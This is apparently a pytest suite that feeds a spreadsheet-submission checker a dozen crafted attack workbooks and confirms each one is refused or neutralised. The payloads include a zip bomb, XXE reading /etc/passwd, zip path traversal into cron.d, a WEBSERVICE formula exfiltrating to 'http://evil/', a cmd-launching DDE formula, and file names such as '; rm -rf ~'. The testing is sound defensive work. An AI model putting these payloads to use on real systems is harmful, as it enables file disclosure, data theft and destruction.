"""Twelve attack files, each through the pool that judges submissions: refused with the sentence its sender reads, or defused."""

from __future__ import annotations

import io
import json
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import xlsxwriter
from msoffcrypto.format.ooxml import OOXMLFile

from pipelines.flow.intake.dry_run import CheckedFile, check
from pipelines.flow.runtime.context import Context, open_context
from pipelines.settings import Settings

pytestmark = pytest.mark.slow

TITLE = ("海宁市2022年1-6月制造业投资汇总表", "单位:万元")
HEADER = ("指标名称", "计量单位", "统计口径", "本年累计", "上年同期", "备注")


def workbook(note: str = "", formula: str = "") -> bytes:
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream, {"strings_to_formulas": False, "strings_to_urls": False})
    sheet = book.add_worksheet("汇总")
    for number, row in enumerate(
        ((TITLE[0],), (TITLE[1],), HEADER, ("制造业投资", "万元", "管理", 1162800, 760000, note))
    ):
        sheet.write_row(number, 0, row)
    if formula:
        sheet.write_formula(3, 3, formula, None, "")
    book.close()
    return stream.getvalue()


def repacked(change: Callable[[str, bytes], bytes] | None = None, **extra: bytes) -> bytes:
    source, stream = zipfile.ZipFile(io.BytesIO(workbook())), io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            archive.writestr(name, change(name, source.read(name)) if change else source.read(name))
        for name, data in extra.items():
            archive.writestr(name, data)
    return stream.getvalue()


def in_sheet(old: str, new: str) -> bytes:
    return repacked(lambda name, data: data.replace(old.encode(), new.encode()) if "sheet1" in name else data)


def zipped(**files: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


def encrypted() -> bytes:
    stream = io.BytesIO()
    OOXMLFile(io.BytesIO(workbook())).encrypt("secret", stream)
    return stream.getvalue()


def a_million_rows() -> bytes:
    """1,048,576 rows with a number each: 5 MB, a table of a gigabyte in a reader."""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(5, 1_048_577))
    return in_sheet("</sheetData>", f"{rows}</sheetData>")


LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><worksheet'
EXTERNAL = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet'

REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "far cell": (lambda: in_sheet('r="A2"', 'r="XFD1048576"'), "XFD1048576"),
    "zip bomb": (lambda: zipped(**{"a.csv": b"0" * (250 << 20)}), "压缩比异常"),
    "billion laughs": (lambda: in_sheet("<worksheet", LAUGHS), "DOCTYPE"),
    "external entity": (lambda: in_sheet("<worksheet", EXTERNAL), "DOCTYPE"),
    "path traversal in a zip": (lambda: zipped(**{"../../etc/cron.d/x.csv": b"a,b"}), "名称不安全"),
    "formula without value": (lambda: workbook(formula='=WEBSERVICE("http://evil/"&A1)'), "公式"),
    "macro": (lambda: repacked(**{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "宏"),
    "external link": (lambda: repacked(**{"xl/externalLinks/externalLink1.xml": b"<x/>"}), "引用了其他文件"),
    "encrypted": (encrypted, "打开密码"),
    "truncated": (lambda: workbook()[:-400], "损坏"),
    "polyglot": (lambda: b"\x7fELF" + bytes(60) + workbook(), "看来是 ELF"),
    "polyglot behind an empty zip": (lambda: b"PK\x03\x04" + bytes(60) + workbook(), "损坏"),
    "a million rows": (a_million_rows, "A200000"),
}


@pytest.fixture(scope="module")
def context(tmp_path_factory: pytest.TempPathFactory) -> Context:
    return open_context(Settings(home=tmp_path_factory.mktemp("attacks"), file_seconds=20), "jiaxing")


def judged(context: Context, path: Path) -> CheckedFile:
    start = time.monotonic()
    (found,) = check(context, [path], None, None, with_history=False)
    assert time.monotonic() - start < 20
    return found


def messages(found: CheckedFile) -> str:
    document = found.document()
    findings = document["findings"] + [f for s in document["submissions"] for f in s["findings"]]
    return "\n".join(f["message_zh"] for f in findings if f["severity"] == "error")


@pytest.mark.parametrize("name", REFUSED)
def test_refused_with_its_reason(name, context, tmp_path):
    make, words = REFUSED[name]
    path = tmp_path / "海宁市.xlsx"
    path.write_bytes(make())
    found = judged(context, path)
    assert found.word in ("unreadable", "rejected")
    assert any(word in messages(found) for word in words.split("|")), messages(found)


def test_the_untouched_workbook_is_accepted(context, tmp_path):
    path = tmp_path / "海宁市.xlsx"
    path.write_bytes(workbook())
    assert judged(context, path).passed


@pytest.mark.parametrize("text", ['=cmd|"/c calc"!A1', "+1+1", "@SUM(1)", "-2+3", "\t=1", "<script>alert(1)</script>"])
def test_formulas_in_texts_stay_text(text, context, tmp_path):
    """CSV and formula injection: nothing is evaluated on the way in; what goes out is written as text (publish, workbook)."""
    path = tmp_path / "海宁市.xlsx"
    path.write_bytes(workbook(note=text))
    found = judged(context, path)
    assert found.passed
    cells = [json.loads(row) for row in found.read.parts[0].raw["cells"].to_pylist()]
    assert text in cells[3]
    json.dumps(found.document())


@pytest.mark.parametrize(
    "name", ["..%2f..%2fetc", "‮xslx.exe", "CON.xlsx", "a" * 200 + ".xlsx", "; rm -rf ~.xlsx", "\n.xlsx"]
)
def test_a_file_name_is_only_text(name, context, tmp_path):
    path = tmp_path / name
    path.write_bytes(workbook())
    before = sorted(p.name for p in tmp_path.parent.iterdir())
    assert judged(context, path).passed
    assert sorted(p.name for p in tmp_path.parent.iterdir()) == before


def test_one_attack_costs_its_neighbours_nothing(context, tmp_path):
    paths = []
    for number, (make, _) in enumerate(REFUSED.values()):
        for kind, content in (("attack", make()), ("good", workbook())):
            path = tmp_path / f"{number:02d}-{kind}.xlsx"
            path.write_bytes(content)
            paths.append(path)
    found = {Path(one.file).name: one.passed for one in check(context, paths, None, None, with_history=False)}
    assert found == {path.name: "good" in path.name for path in paths}
